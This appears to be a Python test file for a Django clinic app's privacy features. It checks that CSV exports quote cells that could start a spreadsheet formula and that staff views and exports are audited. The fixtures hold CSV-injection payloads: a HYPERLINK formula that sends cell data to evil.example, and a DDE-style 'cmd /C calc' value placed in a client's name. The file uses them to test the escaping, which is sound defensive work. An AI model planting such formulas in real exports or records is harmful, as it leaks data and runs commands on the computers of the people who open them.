"""Staff views of privacy records are audited; every CSV we write is safe to open in a spreadsheet."""

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from clinic.spreadsheet import spreadsheet_safe
from privacy.export import build_bundle
from privacy.models import ConsentPurpose, ConsentSource
from privacy.requests_models import AuditAction, DataSubjectRequest, PrivacyAuditEvent, Regime
from privacy.services import record_consent
from tests.support.builders import ClientFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.policy("security")
@pytest.mark.parametrize(
    "cell, shown",
    [
        (FORMULA, "'" + FORMULA),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Dana = friend", "Dana = friend"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_that_could_start_a_formula_is_quoted(cell, shown):
    assert spreadsheet_safe([cell]) == [shown]
    assert spreadsheet_safe({"field": cell}) == {"field": shown}


@pytest.fixture
def hostile_client():
    person = ClientFactory(first_name=FORMULA, last_name="@cmd|' /C calc'!A0")
    record_consent(
        client=person,
        purpose=ConsentPurpose.SMS_REMINDERS,
        granted=True,
        notice_text="-1+1",
        source=ConsentSource.BOOKING_FORM,
    )
    return person


@pytest.mark.policy("security")
def test_the_export_zip_csvs_quote_formula_cells(hostile_client):
    bundle = zipfile.ZipFile(io.BytesIO(build_bundle(client_ids=[hostile_client.pk])))
    csv_names = [n for n in bundle.namelist() if n.endswith(".csv")]
    assert csv_names
    cells = [cell for name in csv_names for row in csv.reader(io.StringIO(bundle.read(name).decode())) for cell in row]
    assert "'" + FORMULA in cells
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


@pytest.mark.policy("security")
def test_the_request_register_csv_quotes_formula_cells(admin_client):
    dsr = DataSubjectRequest.objects.create(
        request_type="access",
        email="x@example.com",
        regime=Regime.GDPR,
        received_at=timezone.now(),
        due_at=timezone.now() + timedelta(days=30),
        outcome=FORMULA,
        refusal_basis="+44 rule",
    )
    response = admin_client.post(
        reverse("admin:privacy_datasubjectrequest_changelist"),
        {"action": "export_register_csv", "_selected_action": [dsr.pk]},
    )
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert "'" + FORMULA in cells and "'+44 rule" in cells
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@")] == []


@pytest.mark.policy("security")
def test_staff_views_of_a_consent_record_are_audited(admin_client, admin_user):
    person = ClientFactory()
    record = record_consent(
        client=person,
        purpose=ConsentPurpose.SMS_MARKETING,
        granted=True,
        notice_text="Texts?",
        source=ConsentSource.BOOKING_FORM,
        ip_address="203.0.113.5",
        user_agent="UA/1",
    )
    assert admin_client.get(reverse("admin:privacy_consentrecord_change", args=[record.pk])).status_code == 200
    assert (
        PrivacyAuditEvent.objects.filter(action=AuditAction.DATA_VIEWED, client=person, actor=admin_user).count() == 1
    )


@pytest.mark.policy("security")
def test_staff_views_of_a_privacy_request_are_audited(admin_client, admin_user):
    dsr = DataSubjectRequest.objects.create(
        request_type="access",
        email="y@example.com",
        regime=Regime.GDPR,
        received_at=timezone.now(),
        due_at=timezone.now() + timedelta(days=30),
    )
    assert admin_client.get(reverse("admin:privacy_datasubjectrequest_change", args=[dsr.pk])).status_code == 200
    assert PrivacyAuditEvent.objects.filter(action=AuditAction.DATA_VIEWED, request=dsr, actor=admin_user).count() == 1


@pytest.mark.parametrize("typed", ["²", "abc", "٣"])
def test_a_privacy_request_address_with_no_plain_id_is_no_such_request_not_a_500(admin_client, typed):
    """Rule: ids are ASCII digits before they reach a URL pattern: its links' reverse() raised NoReverseMatch."""
    changelist = reverse("admin:privacy_datasubjectrequest_changelist")
    response = admin_client.get(f"{changelist}{typed}/change/")
    assert response.status_code == 302 and response["Location"].startswith("/admin/")


@pytest.mark.policy("security")
def test_staff_exports_of_a_persons_data_and_of_the_request_register_are_audited(
    admin_client, admin_user, hostile_client
):
    """Downloading a request's export from the admin, and the register CSV, each leave an audit row naming the staff."""
    now = timezone.now()
    dsr = DataSubjectRequest.objects.create(
        request_type="access",
        email="z@example.com",
        regime=Regime.GDPR,
        received_at=now,
        due_at=now + timedelta(days=30),
        verified_at=now,
    )
    dsr.clients.add(hostile_client)
    exported = PrivacyAuditEvent.objects.filter(action=AuditAction.DATA_EXPORTED, actor=admin_user)

    response = admin_client.get(reverse("admin:privacy_request_export", args=[dsr.pk]))
    assert response.status_code == 200 and zipfile.is_zipfile(io.BytesIO(response.content))
    assert exported.filter(request=dsr).count() == 1

    admin_client.post(
        reverse("admin:privacy_datasubjectrequest_changelist"),
        {"action": "export_register_csv", "_selected_action": [dsr.pk]},
    )
    assert exported.filter(request=None, detail__startswith="Request register CSV").count() == 1
